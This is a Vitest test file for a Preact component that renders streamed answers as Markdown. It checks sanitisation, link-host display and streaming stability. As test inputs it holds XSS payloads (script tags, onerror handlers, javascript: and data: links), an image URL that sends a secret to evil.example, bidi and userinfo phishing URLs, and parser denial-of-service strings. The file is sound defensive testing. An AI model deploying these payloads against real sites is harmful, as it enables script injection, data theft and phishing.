import { render } from 'preact';
import { afterEach, describe, expect, test } from 'vitest';
import { AnswerView } from '../../components/panel/answer/answer';
import { createBlockReader } from '../../components/panel/answer/blocks';
import type { Task } from '../../utils/model/task';
import { aJob } from './support/jobs';
import { markdown } from './support/panel-scenes';
import { freshBrowser } from './support/show';
import { maxMs, timeOf } from './support/time-of';

freshBrowser();
afterEach(() => document.querySelectorAll('[data-test-root]').forEach((root) => root.remove()));

function newRoot(): HTMLElement {
  const root = document.createElement('div');
  root.dataset['testRoot'] = '';
  return document.body.appendChild(root);
}

/** Shows an answer, or the same one grown, and answers its element. */
function showAnswer(
  answer: string,
  root = newRoot(),
  task: Task = { kind: 'describe', detail: 'full' },
  state: 'working' | 'done' = 'working',
): HTMLElement {
  render(<AnswerView job={aJob({ answer, task, state })} lang="en" words={null} />, root);
  const [element, ...others] = root.querySelectorAll<HTMLElement>('[data-part="answer"]');
  expect(others).toEqual([]);
  if (!element) throw new Error('no answer');
  return element;
}

describe('an answer without Markdown syntax stands as it was written', () => {
  test.each([
    'One line.',
    'Two paragraphs.\n\nThe second.',
    'Lines\nthat stay\nlines.',
    'Far apart.\n\n\n\nVery.',
    'Trailing spaces  \nthat stay',
    'Ärger, 日本語, עברית, 👩‍👩‍👧 and snake_case_names, 2 * 3 = 6, a < b > c & d.',
    '[unclear]: five words\nand [unclear] again',
    'E-mail me@example.org, see https://example.org/a?b=c&d=e.',
    'AT&T, &amp; and &nbsp; as they came.',
    '#hashtag and @name, 100 % sure ~ish',
    'He said “no”… (really) [sic] {x} $5 ^up',
  ])('%j', (answer) => {
    expect(showAnswer(answer).textContent).toBe(answer);
  });

  test('carriage returns become line ends', () => {
    expect(showAnswer('one\r\ntwo\r\n\r\nthree').textContent).toBe('one\ntwo\n\nthree');
  });

  test('text that was read in a picture is never Markdown', () => {
    const text = '# Heading\n* item\n    indented\n<b>bold</b>\n1. one\n|a|b|\n[x](https://evil.example)';
    const element = showAnswer(text, newRoot(), { kind: 'text' });
    expect(element.textContent).toBe(text);
    expect(element.childElementCount).toBe(0);
  });
});

describe('Markdown', () => {
  test('becomes elements whose text reads well', () => {
    const element = showAnswer(
      '# Title\n\nSome **bold** and `code`.\n\n1. one\n2. two\n\n| a | b |\n|---|---|\n| 1 | 2 |',
    );
    expect(element.textContent).toBe('Title\n\nSome bold and code.\n\none\ntwo\n\na\tb\n1\t2');
    expect(
      [...element.querySelectorAll('h3, strong, code, ol > li, th[scope=col], td')].map(
        (node) => node.tagName,
      ),
    ).toEqual(['H3', 'STRONG', 'CODE', 'LI', 'LI', 'TH', 'TH', 'TD', 'TD']);
  });

  test('keeps the first number of a list', () => {
    expect(showAnswer('7. seven\n8. eight').querySelector('ol')?.start).toBe(7);
  });

  test('starts below the heading of the card and keeps its own levels', () => {
    const element = showAnswer('### A\n\n#### B\n\n###### C\n\n# D');
    expect([...element.children].map(({ tagName }) => tagName)).toEqual(['H3', 'H4', 'H6', 'H3']);
  });

  test('says beside a link where it leads, outside of the text', () => {
    const element = showAnswer('[your bank](https://evil.example/login) and https://example.org/page');
    const [named, bare] = element.querySelectorAll('a');
    expect(element.textContent).toBe('your bank and https://example.org/page');
    expect(getComputedStyle(named as Element, '::after').content).toContain('evil.example');
    expect(getComputedStyle(bare as Element, '::after').content).toBe('none');
    expect(named).toMatchObject({
      rel: 'noopener noreferrer',
      target: '_blank',
      title: 'https://evil.example/login',
    });
  });
});

test.each([
  'https://bank.example@evil.example/login',
  'https://bank.example:443@evil.example/login',
  '<https://bank.example@evil.example/login>',
  '[https://bank.example](https://bank.example@evil.example/login)',
  'http://evil.example:secret@evil.example/',
])('an address that begins like another host shows its own: %j', (answer) => {
  const link = showAnswer(answer).querySelector('a');
  expect(getComputedStyle(link as Element, '::after').content).toContain('evil.example');
  expect(link?.dataset['host']).toBe('evil.example');
  expect(link?.textContent).not.toContain('(');
});

/** Returns the characters of an element's text as they are seen, from left to right. */
function seenIn(element: Element): string {
  const text = element.firstChild as Text;
  return [...text.data]
    .map((character, at) => {
      const range = new Range();
      range.setStart(text, at);
      range.setEnd(text, at + 1);
      return { character, at: range.getBoundingClientRect() };
    })
    .filter(({ at }) => at.width > 0)
    .sort((one, other) => one.at.top - other.at.top || one.at.left - other.at.left)
    .map(({ character }) => character)
    .join('');
}

test.each([
  '\u202ehttps://evil.example/moc.knab//:sptth',
  'Log in: \u202e<https://evil.example/moc.knab//:sptth>\u202c now',
  '\u2067\u202ehttps://evil.example/moc.knab//:sptth',
  'שלום https://evil.example/א/bank.example/ עולם',
])('an address is seen from its own host on, whatever is around it: %j', (answer) => {
  const link = showAnswer(answer).querySelector('a') as Element;
  expect(link.textContent).toMatch(/^https:\/\/evil\.example\//);
  expect(seenIn(link)).toMatch(/^https:\/\/evil\.example\//);
});

test.each([...'\u061c\u200e\u200f\u202a\u202b\u202d\u202e\u2066\u2067\u2068'])(
  'an address that changes direction within itself shows its host: %j',
  (control) => {
    const link = showAnswer(`https://evil.example/${control}moc.knab//:sptth`).querySelector('a');
    expect(link?.dataset['host']).toBe('evil.example');
  },
);

describe('hostile Markdown does nothing', () => {
  const allowed = new Set(
    'P H3 H4 H5 H6 UL OL LI STRONG EM DEL CODE PRE A BLOCKQUOTE HR DIV TABLE THEAD TBODY TR TH TD SPAN'.split(
      ' ',
    ),
  );
  const allowedAttributes = new Set(
    'href title target rel data-host class start dir data-align data-checked scope role aria-label tabindex'.split(
      ' ',
    ),
  );

  test.each([
    '<script>window.hacked = 1</script>',
    '<img src=x onerror="window.hacked = 1">',
    'text <img src=x onerror="window.hacked = 1"> text',
    '<svg onload="window.hacked = 1"><a xlink:href="javascript:window.hacked=1">x</a></svg>',
    '![read: secret](https://evil.example/?q=secret)',
    '[![pixel](https://evil.example/p.gif)](https://evil.example)',
    '[click](javascript:window.hacked=1)',
    '[click](JaVaScRiPt:window.hacked=1)',
    '[click](&#106;avascript:window.hacked=1)',
    '[click](java\tscript:window.hacked=1)',
    '[click](data:text/html,<script>window.hacked=1</script>)',
    '[click](vbscript:x) [file](file:///etc/passwd) [own](chrome-extension://fake/options.html) [rel](/options.html)',
    '<javascript:window.hacked=1>',
    '<a href="https://evil.example" ping="https://evil.example">x</a>',
    '<iframe srcdoc="<script>parent.hacked=1</script>"></iframe>',
    '<style>* { background: url(https://evil.example) }</style>',
    '> - > - [x](javascript:1) <script>window.hacked=1</script>\n>   - ![a](https://evil.example/b)',
    '```html\n<script>window.hacked = 1</script>\n```',
    '<!-- <script> --><script>window.hacked = 1</script>',
    '[a]: javascript:window.hacked=1\n\n[a]',
    '| <script>1</script> | [x](javascript:1) |\n|---|---|\n| ![i](https://evil.example) | <b onclick=1>y</b> |',
    '[x](https://a.example "onmouseover=alert(1)")',
    '[x](https://user:password@evil.example/)',
  ])('%j', (answer) => {
    const requests = performance.getEntriesByType('resource').length;
    const element = showAnswer(answer);
    for (const node of element.querySelectorAll('*')) {
      expect(allowed).toContain(node.tagName);
      for (const { name } of node.attributes) expect(allowedAttributes).toContain(name);
    }
    for (const link of element.querySelectorAll('a')) expect(link.protocol).toMatch(/^https?:$/);
    expect('hacked' in window).toBe(false);
    expect(performance.getEntriesByType('resource').length).toBe(requests);
  });

  test('HTML is shown as it was written', () => {
    expect(showAnswer('a <b>b</b> <br> c').textContent).toBe('a <b>b</b> <br> c');
    expect(showAnswer('<div onclick="x()">d</div>').textContent).toBe('<div onclick="x()">d</div>');
  });

  test.each([
    ['quotes', '>'.repeat(20_000)],
    ['lists', '- '.repeat(10_000)],
    ['brackets', '['.repeat(20_000)],
    ['emphasis', '*a '.repeat(7_000)],
    ['nested emphasis', `${'*a **b '.repeat(2_000)}${'** *'.repeat(2_000)}`],
    ['images', '!['.repeat(10_000)],
    ['links', `${'['.repeat(3_000)}x${'](y)'.repeat(3_000)}`],
    ['ticks', '`'.repeat(10_000) + 'a ``'.repeat(3_000)],
    ['pipes', `${'|a'.repeat(3_000)}|\n${'|-'.repeat(3_000)}|`],
    ['angles', '<'.repeat(20_000)],
    ['tags', '<a '.repeat(7_000)],
    ['comments', '<!--'.repeat(5_000)],
    ['underscores', '_a'.repeat(14_000)],
    ['emphasis beside what could close it', '_a )'.repeat(1_900)],
    ['stars beside brackets', '*a ['.repeat(1_900)],
  ])('a bomb of %s stays plain while it grows, and holds nothing up', async (_name, answer) => {
    const grow = (): void => {
      const root = newRoot();
      for (const share of [0.9, 0.95, 1]) {
        const grown = answer.slice(0, answer.length * share).trim();
        const element = showAnswer(grown, root);
        expect(element.textContent).toBe(grown);
        expect([...element.querySelectorAll(':not(.chunk)')].map(({ tagName }) => tagName)).toEqual(['P']);
      }
    };
    expect(await timeOf(grow)).toBeLessThan(maxMs);
  });

  test('a very long block stays plain when it is finished, and holds nothing up', async () => {
    const answer = '_a'.repeat(12_000);
    const finish = (): void => {
      const element = showAnswer(`*Short.*\n\n${answer}\n\n*Short.*`, newRoot(), undefined, 'done');
      expect(element.textContent).toBe(`Short.\n\n${answer}\n\nShort.`);
      expect(element.querySelectorAll('em').length).toBe(2);
    };
    expect(await timeOf(finish)).toBeLessThan(maxMs);
  });
});

describe('a streaming answer', () => {
  test('looks at every moment as if it had come at once', () => {
    const root = newRoot();
    const samples = [
      markdown,
      '1. a\n\n2. b\n\ntext\n\n- x\n\n  y\n\n- z',
      'a\n===\nb\n---\n\n    code\n\nc',
      '| a |\n|---|\n| 1 |\nx\n\n<div>\n\nb</div>',
    ];
    for (const sample of samples)
      for (let end = 1; end <= sample.length; end++) {
        const grown = showAnswer(sample.slice(0, end), root).innerHTML;
        const whole = newRoot();
        expect(grown, JSON.stringify(sample.slice(0, end))).toBe(
          showAnswer(sample.slice(0, end), whole).innerHTML,
        );
        render(null, whole);
        whole.remove();
      }
  });

  const long = '**bold** and then many plain words '.repeat(250);

  test('shows a long last block as it was written, and reads it when it is whole', () => {
    const root = newRoot();
    const task: Task = { kind: 'alt' };
    expect(showAnswer(long, root).textContent).toBe(long.trim());
    expect(showAnswer(long, root, task, 'done').querySelectorAll('strong').length).toBe(250);
  });

  test('reads a long block when another follows it', () => {
    const root = newRoot();
    expect(showAnswer(long, root).querySelector('strong')).toBeNull();
    const element = showAnswer(`${long}\n\nNext.`, root);
    expect(element.querySelectorAll('strong').length).toBe(250);
    expect(element.lastElementChild?.textContent).toBe('Next.');
  });

  const longAnswer = Array.from(
    { length: 60 },
    (_all, n) =>
      `${n}: ${'The boat **sails** on, and `n` grows; see https://example.org for more. '.repeat(4)}`,
  ).join('\n\n');

  test('is read only where it can still change', () => {
    const read = createBlockReader();
    let before = read('', true);
    for (let end = 5; end <= longAnswer.length; end += 5) {
      const now = read(longAnswer.slice(0, end), true);
      // All but the last two blocks, and what stands between them, are the very same.
      const finished = before.slice(0, -4);
      expect(finished.every((block, index) => block === now[index])).toBe(true);
      before = now;
    }
    expect(before.length).toBe(119);
  });

  test('leaves what is finished alone on the page', () => {
    const root = newRoot();
    const early = longAnswer.slice(0, 2000);
    const element = showAnswer(early, root);
    const finished = [...element.children].slice(0, -2);
    const observer = new MutationObserver(() => undefined);
    observer.observe(element, { subtree: true, childList: true, characterData: true, attributes: true });
    for (let end = early.length; end <= longAnswer.length; end += 5)
      showAnswer(longAnswer.slice(0, end), root);
    const touched = observer
      .takeRecords()
      .filter(({ target }) => finished.some((block) => block.contains(target)));
    observer.disconnect();
    expect(finished.length).toBeGreaterThan(3);
    expect(touched).toEqual([]);
    expect(finished.every((block) => block.isConnected)).toBe(true);
  });
});
